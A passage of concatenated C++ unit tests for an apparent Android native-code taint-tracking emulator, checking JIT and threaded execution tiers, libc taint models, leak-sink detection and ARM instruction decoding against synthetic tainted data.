  cpu_.set_jit_enabled(true);
  EXPECT_EQ(cpu_.call_function(kCode, {123}), jit_result);
}

TEST_F(JitFixture, UnfusedHooksFallBackToThreadedAndFireExactly) {
  // A raw (un-fused) instruction hook has no TraceEmitter or TaintJitView
  // behind it, so emitted code cannot reproduce it: the trampoline must
  // route every hooked dispatch off the jit tier to the threaded streams
  // (per-instruction semantics), recording the detour in the fallback
  // counter. Only the fused single-hook analysis shape (below) earns the
  // traced host stream.
  u64 fired = 0;
  cpu_.add_insn_hook(
      [&fired](Cpu&, const arm::Insn&, GuestAddr) { ++fired; });

  Assembler a(kCode);
  a.mov_imm(R(0), 1);
  a.add_imm(R(0), R(0), 2);
  a.add_imm(R(0), R(0), 4);
  a.ret();
  EXPECT_EQ(run(a), 7u);
  EXPECT_EQ(fired, 4u);  // three ALU ops + the return
  if (Cpu::jit_available()) {
    const core::PerfCounters perf = core::collect_perf(cpu_);
    EXPECT_GT(perf.jit_fallback_blocks, 0u);
    EXPECT_EQ(perf.jit_traced_blocks, 0u);
  }
}

// --- Taint-fused traced streams (NDroid-shaped fused analysis) ------------

/// One full-analysis run of a tainted word-copy kernel: NDroid attached,
/// source range + a callee-saved register tainted (liveness never clears,
/// so the gate fires on every block), `n` words copied src -> dst with an
/// ALU hop in between. Returns the result, the per-byte destination labels,
/// and the perf counters, so callers can diff tiers bit for bit.
struct TaintRun {
  u32 result = 0;
  std::vector<Taint> dst_labels;
  u64 propagations = 0;
  core::PerfCounters perf;
};

TaintRun run_tainted_copy(bool jit, u32 n, std::size_t arena_bytes = 0,
                          u32 pad = 0) {
  android::Device device("jit-traced-test");
  device.cpu.set_jit_enabled(jit);
  if (arena_bytes != 0) {
    device.cpu.set_jit_config(arena_bytes, /*wx=*/false);
  }
  core::NDroid nd(device);

  const GuestAddr src = device.libc.malloc_guest(4 * n);
  const GuestAddr dst = device.libc.malloc_guest(4 * n);
  device.memory.fill(src, 0x5A, 4 * n);
  nd.taint_engine().map().set_range(src, 4 * n, 0x2);
  nd.taint_engine().set_reg(4, 0x2);  // liveness anchor (never written)

  const GuestAddr base = device.next_lib_base();
  Assembler a(base);
  Label loop, done;
  // r0 = words, r1 = src, r2 = dst: ldr -> add (Table V ALU hop) -> str.
  a.mov_imm(R(3), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.ldr_post(R(3), R(1), 4);
  a.add_imm(R(3), R(3), 1);
  // Optional straight-line padding (taint- and value-neutral): inflates the
  // loop body across several translation blocks so the emitted dual-stream
  // host code can outgrow a deliberately undersized arena mid-run.
  for (u32 i = 0; i < pad; ++i) a.add_imm(R(3), R(3), 0);
  a.str_post(R(3), R(2), 4);
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(3));
  a.ret();
  device.load_native_lib("libtaintcopy.so", a.finish());

  TaintRun out;
  out.result = device.cpu.call_function(base, {n, src, dst});
  out.dst_labels.reserve(4 * n);
  for (u32 i = 0; i < 4 * n; ++i) {
    out.dst_labels.push_back(nd.taint_engine().map().get(dst + i));
  }
  out.propagations = nd.taint_engine().propagations;
  out.perf = core::collect_perf(device.cpu);
  return out;
}

TEST(JitTraced, TracedStreamMatchesThreadedTaintBitForBit) {
  // The taint-fused host stream must be observationally identical to the
  // threaded fused-trace tier: same guest result, same per-byte destination
  // labels (zero missed propagations), same rule-application count.
  const TaintRun threaded = run_tainted_copy(/*jit=*/false, 64);
  const TaintRun jit = run_tainted_copy(/*jit=*/true, 64);

  EXPECT_EQ(jit.result, threaded.result);
  ASSERT_EQ(jit.dst_labels.size(), threaded.dst_labels.size());
  EXPECT_EQ(jit.dst_labels, threaded.dst_labels);
  for (const Taint t : jit.dst_labels) EXPECT_EQ(t, 0x2u);
  EXPECT_EQ(jit.propagations, threaded.propagations);

  EXPECT_EQ(threaded.perf.jit_traced_blocks, 0u);
  if (Cpu::jit_available()) {
    // The gate fired on every block, and the traced host stream (not the
    // threaded fallback) is what actually executed the hot loop.
    EXPECT_GT(jit.perf.jit_traced_blocks, 0u);
    EXPECT_GT(jit.perf.jit_traced_blocks, jit.perf.jit_fallback_blocks);
  }
}

TEST(JitTraced, ArenaFlushWithDualStreamsLiveLinked) {
  if (!Cpu::jit_available()) GTEST_SKIP() << "no host code emission";
  // Dual-stream arena accounting: clean + traced bodies share ONE arena
  // allocation, so an exhaustion flush while both streams are live-linked
  // must recycle them atomically — no stream of a pair may survive the
  // other. An undersized arena forces repeated flush/recompile cycles in
  // the middle of the tainted loop; results and labels must not change.
  const TaintRun big = run_tainted_copy(/*jit=*/true, 96, /*arena_bytes=*/0,
                                        /*pad=*/160);
  const TaintRun tiny = run_tainted_copy(/*jit=*/true, 96,
                                         /*arena_bytes=*/8 * 1024,
                                         /*pad=*/160);
  EXPECT_EQ(tiny.result, big.result);
  EXPECT_EQ(tiny.dst_labels, big.dst_labels);
  EXPECT_EQ(tiny.propagations, big.propagations);
  EXPECT_GT(tiny.perf.jit_arena_flushes, 0u);
  EXPECT_GT(tiny.perf.jit_traced_blocks, 0u);
}

}  // namespace
}  // namespace ndroid
