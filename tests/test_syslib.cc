// Unit tests of the System Lib Hook Engine: each Table VI model's taint
// semantics and each Table VII sink, driven through real guest calls.
#include <gtest/gtest.h>

#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;

class SysLibFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kSrc = 0x30100000;
  static constexpr GuestAddr kDst = 0x30200000;

  SysLibFixture() : nd_(device_) {}

  u32 call(const std::string& fn, const std::vector<u32>& args) {
    return device_.cpu.call_function(device_.libc.fn(fn), args);
  }
  mem::ShadowMemory& map() { return nd_.taint_engine().map(); }

  Device device_;
  NDroid nd_;
};

TEST_F(SysLibFixture, MemcpyModelOrsPerByte) {
  device_.memory.fill(kSrc, 'a', 8);
  map().set(kSrc + 2, kTaintImei);
  map().set(kDst + 2, kTaintSms);  // pre-existing taint at destination
  call("memcpy", {kDst, kSrc, 8});
  // Listing 3 uses addTaint: OR, not overwrite.
  EXPECT_EQ(map().get(kDst + 2), kTaintImei | kTaintSms);
  EXPECT_EQ(map().get(kDst + 3), kTaintClear);
}

TEST_F(SysLibFixture, MemmoveModelCopies) {
  device_.memory.fill(kSrc, 'b', 8);
  map().set(kSrc, kTaintContacts);
  call("memmove", {kDst, kSrc, 8});
  EXPECT_EQ(map().get(kDst), kTaintContacts);
}

TEST_F(SysLibFixture, MemsetModelUsesValueTaint) {
  // The fill byte's taint comes from shadow register r1 — normally set by
  // the tracer before the call; simulate a tainted fill value.
  nd_.taint_engine().set_reg(1, kTaintImsi);
  call("memset", {kDst, 'x', 6});
  EXPECT_EQ(map().get_range(kDst, 6), kTaintImsi);
  nd_.taint_engine().set_reg(1, kTaintClear);
  call("memset", {kDst, 'x', 6});
  EXPECT_EQ(map().get_range(kDst, 6), kTaintClear);
}

TEST_F(SysLibFixture, StrncpyClearsPaddingTaint) {
  device_.memory.write_cstr(kSrc, "ab");
  map().set_range(kSrc, 2, kTaintSms);
  map().set_range(kDst, 8, kTaintImei);  // stale taints at destination
  call("strncpy", {kDst, kSrc, 8});
  EXPECT_EQ(map().get(kDst), kTaintImei | kTaintSms);  // OR on copied bytes
  EXPECT_EQ(map().get(kDst + 5), kTaintClear);  // padding clears stale taint
}

TEST_F(SysLibFixture, StrcatAppendsTaintAtDstEnd) {
  device_.memory.write_cstr(kDst, "id=");
  device_.memory.write_cstr(kSrc, "35495");
  map().set_range(kSrc, 5, kTaintImei);
  call("strcat", {kDst, kSrc});
  EXPECT_EQ(device_.memory.read_cstr(kDst), "id=35495");
  EXPECT_EQ(map().get(kDst), kTaintClear);      // "id=" untouched
  EXPECT_EQ(map().get(kDst + 3), kTaintImei);   // appended bytes tainted
}

TEST_F(SysLibFixture, StrlenAtoiTaintTheResult) {
  device_.memory.write_cstr(kSrc, "12345");
  map().set_range(kSrc, 5, kTaintPhoneNumber);
  EXPECT_EQ(call("strlen", {kSrc}), 5u);
  EXPECT_EQ(nd_.taint_engine().reg(0), kTaintPhoneNumber);
  EXPECT_EQ(call("atoi", {kSrc}), 12345u);
  EXPECT_EQ(nd_.taint_engine().reg(0), kTaintPhoneNumber);
}

TEST_F(SysLibFixture, StrcmpResultCarriesBothOperandTaints) {
  device_.memory.write_cstr(kSrc, "abc");
  device_.memory.write_cstr(kDst, "abd");
  map().set_range(kSrc, 3, kTaintImei);
  map().set_range(kDst, 3, kTaintSms);
  call("strcmp", {kSrc, kDst});
  EXPECT_EQ(nd_.taint_engine().reg(0), kTaintImei | kTaintSms);
}

TEST_F(SysLibFixture, StrchrAliasesInputTaint) {
  device_.memory.write_cstr(kSrc, "a.b");
  nd_.taint_engine().set_reg(0, kTaintContacts);  // pointer arg taint
  call("strchr", {kSrc, '.'});
  EXPECT_EQ(nd_.taint_engine().reg(0) & kTaintContacts, kTaintContacts);
}

TEST_F(SysLibFixture, MallocReturnsUntaintedMemory) {
  // Recycled blocks must not resurrect stale taints.
  const u32 p = call("malloc", {32});
  map().set_range(p, 32, kTaintImei);
  call("free", {p});
  const u32 q = call("malloc", {32});
  ASSERT_EQ(q, p);
  EXPECT_EQ(map().get_range(q, 32), kTaintClear);
}

TEST_F(SysLibFixture, ReallocMovesTaint) {
  const u32 p = call("malloc", {16});
  device_.memory.write_cstr(p, "secret");
  map().set_range(p, 6, kTaintSms);
  const u32 q = call("realloc", {p, 64});
  ASSERT_NE(q, p);
  EXPECT_EQ(map().get_range(q, 6), kTaintSms);
}

TEST_F(SysLibFixture, StrdupCopiesTaint) {
  device_.memory.write_cstr(kSrc, "dup-me");
  map().set(kSrc + 1, kTaintIccid);
  const u32 p = call("strdup", {kSrc});
  EXPECT_EQ(map().get(p + 1), kTaintIccid);
  EXPECT_EQ(map().get(p), kTaintClear);
}

TEST_F(SysLibFixture, SprintfPropagatesFormatArgTaint) {
  device_.memory.write_cstr(kSrc, "%s!");
  device_.memory.write_cstr(kSrc + 0x100, "x");
  map().set(kSrc + 0x100, kTaintImei);
  call("sprintf", {kDst, kSrc, kSrc + 0x100});
  EXPECT_EQ(device_.memory.read_cstr(kDst), "x!");
  EXPECT_EQ(map().get_range(kDst, 3), kTaintImei);
}

TEST_F(SysLibFixture, SscanfTaintsOutputs) {
  device_.memory.write_cstr(kSrc, "42 name");
  map().set_range(kSrc, 7, kTaintContacts);
  device_.memory.write_cstr(kSrc + 0x100, "%d %s");
  call("sscanf", {kSrc, kSrc + 0x100, kDst, kDst + 0x40});
  EXPECT_EQ(map().get_range(kDst, 4), kTaintContacts);
  EXPECT_EQ(map().get(kDst + 0x40), kTaintContacts);
}

TEST_F(SysLibFixture, LibmValuePurity) {
  nd_.taint_engine().set_reg(0, kTaintLocation);
  nd_.taint_engine().set_reg(1, kTaintClear);
  call("sqrtf", {std::bit_cast<u32>(4.0f)});
  EXPECT_EQ(nd_.taint_engine().reg(0) & kTaintLocation, kTaintLocation);
}

// --- Table VII sinks ---------------------------------------------------------

TEST_F(SysLibFixture, FwriteSinkFires) {
  device_.memory.write_cstr(kSrc, "/sdcard/dump");
  device_.memory.write_cstr(kSrc + 0x40, "w");
  const u32 f = call("fopen", {kSrc, kSrc + 0x40});
  device_.memory.write_cstr(kSrc + 0x80, "leak!");
  map().set_range(kSrc + 0x80, 5, kTaintSms);
  call("fwrite", {kSrc + 0x80, 1, 5, f});
  ASSERT_EQ(nd_.leaks().size(), 1u);
  EXPECT_EQ(nd_.leaks()[0].sink, "fwrite");
  EXPECT_EQ(nd_.leaks()[0].destination, "/sdcard/dump");
  EXPECT_EQ(nd_.leaks()[0].taint, kTaintSms);
  EXPECT_EQ(nd_.leaks()[0].data, "leak!");
}

TEST_F(SysLibFixture, FputsAndFputcSinks) {
  device_.memory.write_cstr(kSrc, "/sdcard/d2");
  device_.memory.write_cstr(kSrc + 0x40, "w");
  const u32 f = call("fopen", {kSrc, kSrc + 0x40});
  device_.memory.write_cstr(kSrc + 0x80, "s");
  map().set(kSrc + 0x80, kTaintImei);
  call("fputs", {kSrc + 0x80, f});
  nd_.taint_engine().set_reg(0, kTaintImsi);
  call("fputc", {'c', f});
  ASSERT_EQ(nd_.leaks().size(), 2u);
  EXPECT_EQ(nd_.leaks()[0].sink, "fputs");
  EXPECT_EQ(nd_.leaks()[1].sink, "fputc");
}

TEST_F(SysLibFixture, UntaintedWritesAreNotLeaks) {
  device_.memory.write_cstr(kSrc, "/sdcard/ok");
  device_.memory.write_cstr(kSrc + 0x40, "w");
  const u32 f = call("fopen", {kSrc, kSrc + 0x40});
  device_.memory.write_cstr(kSrc + 0x80, "fine");
  call("fwrite", {kSrc + 0x80, 1, 4, f});
  EXPECT_TRUE(nd_.leaks().empty());
}

TEST_F(SysLibFixture, WriteSyscallSinkResolvesFilePath) {
  const int fd = device_.kernel.open_file("/sdcard/raw", os::kOpenWrite);
  device_.memory.write_cstr(kSrc, "xyz");
  map().set_range(kSrc, 3, kTaintContacts);
  call("write", {static_cast<u32>(fd), kSrc, 3});
  ASSERT_EQ(nd_.leaks().size(), 1u);
  EXPECT_EQ(nd_.leaks()[0].sink, "write");
  EXPECT_EQ(nd_.leaks()[0].destination, "/sdcard/raw");
}

TEST_F(SysLibFixture, LeakSummaryAggregates) {
  device_.memory.write_cstr(kSrc, "/sdcard/a");
  device_.memory.write_cstr(kSrc + 0x40, "w");
  const u32 f = call("fopen", {kSrc, kSrc + 0x40});
  device_.memory.write_cstr(kSrc + 0x80, "x");
  map().set(kSrc + 0x80, kTaintImei);
  call("fputs", {kSrc + 0x80, f});
  map().set(kSrc + 0x80, kTaintSms);
  call("fputs", {kSrc + 0x80, f});
  const LeakSummary s = summarize(nd_.leaks());
  EXPECT_EQ(s.total, 2u);
  EXPECT_EQ(s.taint_union, kTaintImei | kTaintSms);
  EXPECT_EQ(s.by_sink.at("fputs"), 2u);
  EXPECT_EQ(s.by_destination.at("/sdcard/a"), 2u);
}

TEST_F(SysLibFixture, ModelsDisabledMeansNoModelApplications) {
  Device d2;
  NDroidConfig cfg;
  cfg.syslib_models = false;
  NDroid nd2(d2, cfg);
  d2.memory.write_cstr(kSrc, "abc");
  d2.cpu.call_function(d2.libc.fn("strlen"), {kSrc});
  EXPECT_EQ(nd2.syslib().models_applied(), 0u);
}

}  // namespace
}  // namespace ndroid::core
