// Assembler -> decoder round-trip checks: every encoding the assembler can
// emit must decode back to the intended operation and operands.
#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "arm/decoder.h"

namespace ndroid::arm {
namespace {

Insn decode_one(void (Assembler::*emit)(Reg, Reg, Reg, bool), Reg rd, Reg rn,
                Reg rm) {
  Assembler a(0x1000);
  (a.*emit)(rd, rn, rm, false);
  const auto buf = a.buffer();
  const u32 w = buf[0] | (buf[1] << 8) | (buf[2] << 16) | (buf[3] << 24);
  return decode_arm(w);
}

u32 first_word(const Assembler& a) {
  const auto& buf = a.buffer();
  return buf[0] | (buf[1] << 8) | (buf[2] << 16) | (buf[3] << 24);
}

TEST(ArmDecoder, DataProcessingRegister) {
  struct Case {
    void (Assembler::*emit)(Reg, Reg, Reg, bool);
    Op op;
  };
  const Case cases[] = {
      {&Assembler::and_, Op::kAnd}, {&Assembler::eor, Op::kEor},
      {&Assembler::sub, Op::kSub},  {&Assembler::rsb, Op::kRsb},
      {&Assembler::add, Op::kAdd},  {&Assembler::adc, Op::kAdc},
      {&Assembler::sbc, Op::kSbc},  {&Assembler::orr, Op::kOrr},
      {&Assembler::bic, Op::kBic},
  };
  for (const auto& c : cases) {
    const Insn insn = decode_one(c.emit, R(3), R(4), R(5));
    EXPECT_EQ(insn.op, c.op);
    EXPECT_EQ(insn.rd, 3);
    EXPECT_EQ(insn.rn, 4);
    EXPECT_EQ(insn.rm, 5);
    EXPECT_FALSE(insn.imm_operand);
    EXPECT_EQ(insn.taint_class(), TaintClass::kBinaryOp3);
  }
}

TEST(ArmDecoder, MovRegisterAndImmediate) {
  Assembler a(0);
  a.mov(R(1), R(2));
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kMov);
  EXPECT_EQ(insn.taint_class(), TaintClass::kMovReg);
  EXPECT_EQ(insn.rd, 1);
  EXPECT_EQ(insn.rm, 2);

  Assembler b(0);
  b.mov_imm(R(7), 0xFF0);
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kMov);
  EXPECT_TRUE(insn.imm_operand);
  EXPECT_EQ(insn.imm, 0xFF0u);
  EXPECT_EQ(insn.taint_class(), TaintClass::kMovImm);
}

TEST(ArmDecoder, RotatedImmediates) {
  for (u32 imm : {0u, 1u, 0xFFu, 0x100u, 0xFF000000u, 0x3FC00u, 0xC0000034u}) {
    ASSERT_TRUE(Assembler::encodable_imm(imm)) << imm;
    Assembler a(0);
    a.mov_imm(R(0), imm);
    const Insn insn = decode_arm(first_word(a));
    EXPECT_EQ(insn.imm, imm);
  }
  EXPECT_FALSE(Assembler::encodable_imm(0x12345678));
  EXPECT_FALSE(Assembler::encodable_imm(0x101));
}

TEST(ArmDecoder, MovwMovt) {
  Assembler a(0);
  a.movw(R(4), 0xBEEF);
  a.movt(R(4), 0xDEAD);
  const auto& buf = a.buffer();
  const u32 w0 = buf[0] | (buf[1] << 8) | (buf[2] << 16) | (buf[3] << 24);
  const u32 w1 = buf[4] | (buf[5] << 8) | (buf[6] << 16) | (buf[7] << 24);
  Insn i0 = decode_arm(w0);
  Insn i1 = decode_arm(w1);
  EXPECT_EQ(i0.op, Op::kMovw);
  EXPECT_EQ(i0.imm, 0xBEEFu);
  EXPECT_EQ(i0.rd, 4);
  EXPECT_EQ(i1.op, Op::kMovt);
  EXPECT_EQ(i1.imm, 0xDEADu);
}

TEST(ArmDecoder, MultiplyFamily) {
  Assembler a(0);
  a.mul(R(1), R(2), R(3));
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kMul);
  EXPECT_EQ(insn.rd, 1);

  Assembler b(0);
  b.mla(R(1), R(2), R(3), R(4));
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kMla);
  EXPECT_EQ(insn.rs, 4);

  Assembler c(0);
  c.umull(R(1), R(2), R(3), R(4));
  insn = decode_arm(first_word(c));
  EXPECT_EQ(insn.op, Op::kUmull);
  EXPECT_EQ(insn.rd, 1);  // RdLo
  EXPECT_EQ(insn.rn, 2);  // RdHi

  Assembler d(0);
  d.sdiv(R(1), R(2), R(3));
  insn = decode_arm(first_word(d));
  EXPECT_EQ(insn.op, Op::kSdiv);
  EXPECT_EQ(insn.rd, 1);
  EXPECT_EQ(insn.rn, 2);
  EXPECT_EQ(insn.rm, 3);
}

TEST(ArmDecoder, LoadStoreImmediate) {
  Assembler a(0);
  a.ldr(R(0), R(1), 8);
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kLdr);
  EXPECT_EQ(insn.taint_class(), TaintClass::kLoad);
  EXPECT_EQ(insn.rd, 0);
  EXPECT_EQ(insn.rn, 1);
  EXPECT_EQ(insn.imm, 8u);
  EXPECT_TRUE(insn.add_offset);
  EXPECT_TRUE(insn.pre_index);

  Assembler b(0);
  b.strb(R(2), R(3), -4);
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kStrb);
  EXPECT_EQ(insn.taint_class(), TaintClass::kStore);
  EXPECT_FALSE(insn.add_offset);
  EXPECT_EQ(insn.imm, 4u);
}

TEST(ArmDecoder, LoadStoreHalfwordAndSigned) {
  Assembler a(0);
  a.ldrh(R(0), R(1), 6);
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kLdrh);
  EXPECT_EQ(insn.imm, 6u);

  Assembler b(0);
  b.ldrsb(R(0), R(1), 1);
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kLdrsb);

  Assembler c(0);
  c.ldrsh(R(0), R(1), 2);
  insn = decode_arm(first_word(c));
  EXPECT_EQ(insn.op, Op::kLdrsh);

  Assembler d(0);
  d.strh(R(5), R(6), 2);
  insn = decode_arm(first_word(d));
  EXPECT_EQ(insn.op, Op::kStrh);
  EXPECT_EQ(insn.rd, 5);
}

TEST(ArmDecoder, LoadStoreRegisterOffset) {
  Assembler a(0);
  a.ldr_reg(R(0), R(1), R(2));
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kLdr);
  EXPECT_TRUE(insn.reg_offset);
  EXPECT_EQ(insn.rm, 2);

  Assembler b(0);
  b.strb_reg(R(0), R(1), R(2));
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kStrb);
  EXPECT_TRUE(insn.reg_offset);
}

TEST(ArmDecoder, PostIndexed) {
  Assembler a(0);
  a.ldrb_post(R(0), R(1), 1);
  const Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kLdrb);
  EXPECT_FALSE(insn.pre_index);
  EXPECT_TRUE(insn.writeback);
}

TEST(ArmDecoder, PushPop) {
  Assembler a(0);
  a.push({R(4), R(5), LR});
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kStm);
  EXPECT_EQ(insn.taint_class(), TaintClass::kStm);
  EXPECT_EQ(insn.rn, 13);
  EXPECT_TRUE(insn.writeback);
  EXPECT_TRUE(insn.before);
  EXPECT_FALSE(insn.base_increment);
  EXPECT_EQ(insn.reglist, (1u << 4) | (1u << 5) | (1u << 14));

  Assembler b(0);
  b.pop({R(4), R(5), PC});
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kLdm);
  EXPECT_TRUE(insn.base_increment);
  EXPECT_FALSE(insn.before);
  EXPECT_EQ(insn.reglist, (1u << 4) | (1u << 5) | (1u << 15));
}

TEST(ArmDecoder, Branches) {
  Assembler a(0x1000);
  Label target;
  a.nop();
  a.bind(target);
  a.nop();
  Assembler b(0x1000);
  b.b_abs(0x1010);
  Insn insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.op, Op::kB);
  EXPECT_EQ(insn.branch_offset, 0x1010 - 0x1000 - 8);

  Assembler c(0x1000);
  c.bl_abs(0x0F00);
  insn = decode_arm(first_word(c));
  EXPECT_EQ(insn.op, Op::kBl);
  EXPECT_TRUE(insn.link);
  EXPECT_EQ(insn.branch_offset, 0x0F00 - 0x1000 - 8);

  Assembler d(0);
  d.bx(LR);
  insn = decode_arm(first_word(d));
  EXPECT_EQ(insn.op, Op::kBx);
  EXPECT_EQ(insn.rm, 14);

  Assembler e(0);
  e.blx(IP);
  insn = decode_arm(first_word(e));
  EXPECT_EQ(insn.op, Op::kBlxReg);
  EXPECT_EQ(insn.rm, 12);
}

TEST(ArmDecoder, BackwardAndForwardLabels) {
  Assembler a(0x2000);
  Label start, end;
  a.bind(start);
  a.nop();            // 0x2000... wait: bind at 0, nop at 0
  a.b(end);           // forward reference
  a.b(start);         // backward reference
  a.bind(end);
  a.nop();
  auto code = a.finish();
  // b end at offset 4 -> target offset 12: delta = 12 - 4 - 8 = 0
  const u32 w1 = code[4] | (code[5] << 8) | (code[6] << 16) | (code[7] << 24);
  Insn insn = decode_arm(w1);
  EXPECT_EQ(insn.op, Op::kB);
  EXPECT_EQ(insn.branch_offset, 0);
  // b start at offset 8 -> target 0: delta = 0 - 8 - 8 = -16
  const u32 w2 = code[8] | (code[9] << 8) | (code[10] << 16) | (code[11] << 24);
  insn = decode_arm(w2);
  EXPECT_EQ(insn.branch_offset, -16);
}

TEST(ArmDecoder, Svc) {
  Assembler a(0);
  a.svc(0x42);
  const Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kSvc);
  EXPECT_EQ(insn.imm, 0x42u);
}

TEST(ArmDecoder, ConditionCodes) {
  Assembler a(0);
  a.mov_imm(R(0), 1, Cond::kEQ);
  const Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.cond, Cond::kEQ);
}

TEST(ArmDecoder, ShiftedOperands) {
  Assembler a(0);
  a.lsl(R(0), R(1), 4);
  Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kMov);
  EXPECT_EQ(insn.shift, ShiftType::kLSL);
  EXPECT_EQ(insn.shift_amount, 4);

  Assembler b(0);
  b.asr(R(0), R(1), 31);
  insn = decode_arm(first_word(b));
  EXPECT_EQ(insn.shift, ShiftType::kASR);
  EXPECT_EQ(insn.shift_amount, 31);
}

TEST(ArmDecoder, UndefinedPatterns) {
  EXPECT_EQ(decode_arm(0xFFFFFFFF).op, Op::kUndefined);   // cond=1111
  EXPECT_EQ(decode_arm(0xE7F000F0).op, Op::kUndefined);   // permanently undef
}

TEST(ArmDecoder, ClzAndExtends) {
  Assembler a(0);
  a.clz(R(3), R(7));
  const Insn insn = decode_arm(first_word(a));
  EXPECT_EQ(insn.op, Op::kClz);
  EXPECT_EQ(insn.rd, 3);
  EXPECT_EQ(insn.rm, 7);
  EXPECT_EQ(insn.taint_class(), TaintClass::kUnary);
}

}  // namespace
}  // namespace ndroid::arm
