// Threaded-code execution tier: direct block linking (patch + follow
// counters), the stale-chain hazard (a self-modifying store into a *linked
// successor* must void the patched edge, not just the block), ablation
// parity with the per-instruction TB path, and gate interaction (clean
// blocks keep the zero-hook fast path inside the threaded loop).
#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "core/report.h"

namespace ndroid {
namespace {

using arm::Assembler;
using arm::Cond;
using arm::Cpu;
using arm::Label;
using arm::R;

class ThreadedFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  // Separate page from kCode so per-page invalidation of the patched
  // subroutine leaves the caller's blocks translated.
  static constexpr GuestAddr kTail = kCode + 0x1000;

  ThreadedFixture() : cpu_(mem_, map_) {
    // RWX so the self-modifying-code tests can store into code pages.
    map_.add("code", kCode, 0x4000, mem::kRWX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    mem_.write_bytes(kCode, a.finish());
    return cpu_.call_function(kCode, args);
  }

  /// Encodes a single instruction and returns its word (for guest stores
  /// that patch code).
  static u32 encode(void (*emit)(Assembler&)) {
    Assembler p(0);
    emit(p);
    const std::vector<u8>& bytes = p.finish();
    return static_cast<u32>(bytes[0]) | (static_cast<u32>(bytes[1]) << 8) |
           (static_cast<u32>(bytes[2]) << 16) |
           (static_cast<u32>(bytes[3]) << 24);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST_F(ThreadedFixture, HotLoopPatchesAndFollowsDirectLinks) {
  ASSERT_TRUE(cpu_.threaded_enabled());  // production default
  Assembler a(kCode);
  Label loop, done;
  a.mov_imm(R(1), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.add_imm(R(1), R(1), 3);
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {1000}), 3000u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  // The loop's back edge and its internal branch both get patched once and
  // then followed in-loop on every iteration.
  EXPECT_GT(perf.threaded_patches, 0u);
  EXPECT_GT(perf.threaded_links, perf.threaded_patches);
  // A linked transition must still count as a cache hit so the hit-rate
  // counters stay comparable with the unlinked tiers.
  EXPECT_GT(perf.tb_hit_rate(), 0.9);
}

TEST_F(ThreadedFixture, SelfModifyingStoreIntoLinkedSuccessorUnlinksEdge) {
  // The stale-chain hazard: patch caller -> tail into the threaded stream,
  // *then* store over the tail's first instruction. The patched edge must
  // not replay the stale micro-ops; the version fence has to bounce the
  // transition out to a fresh translation.
  Assembler t(kTail);
  t.add_imm(R(0), R(0), 1);  // patched at runtime to add r0, r0, #100
  t.ret();
  mem_.write_bytes(kTail, t.finish());

  const u32 patch_word =
      encode([](Assembler& p) { p.add_imm(R(0), R(0), 100); });

  Assembler a(kCode);
  Label loop, skip;
  a.push({R(4), arm::LR});
  a.mov_imm(R(0), 0);
  a.mov_imm(R(4), 4);  // iteration counter: 4, 3, 2, 1
  a.mov_imm32(R(2), patch_word);
  a.mov_imm32(R(3), kTail);
  a.bind(loop);
  a.bl_abs(kTail);  // edge under test; linked by the second traversal
  a.cmp_imm(R(4), 2);
  a.b(skip, Cond::kNE);
  a.str(R(2), R(3));  // third iteration: overwrite the linked successor
  a.bind(skip);
  a.sub_imm(R(4), R(4), 1, /*s=*/true);
  a.b(loop, Cond::kNE);
  a.pop({R(4), arm::LR});
  a.ret();

  // Iterations 1-3 run the original tail (+1 each); the store at the end of
  // iteration 3 rewrites it, so iteration 4 must execute +100:
  //   3 * 1 + 100 = 103.  A stale patched edge would yield 4.
  EXPECT_EQ(run(a), 103u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.threaded_patches, 0u);   // the edge really was linked
  EXPECT_GT(perf.tb_invalidated, 0u);     // and the store really killed it
}

TEST_F(ThreadedFixture, FlushBlocksTearsDownPatchedEdges) {
  Assembler a(kCode);
  Label loop, done;
  a.mov_imm(R(1), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.add_imm(R(1), R(1), 1);
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {50}), 50u);
  const u64 patches_before = core::collect_perf(cpu_).threaded_patches;
  ASSERT_GT(patches_before, 0u);

  // flush_blocks() bumps the cache version: every patched edge is void and
  // the re-run must re-translate and re-patch, not follow stale streams.
  cpu_.flush_blocks();
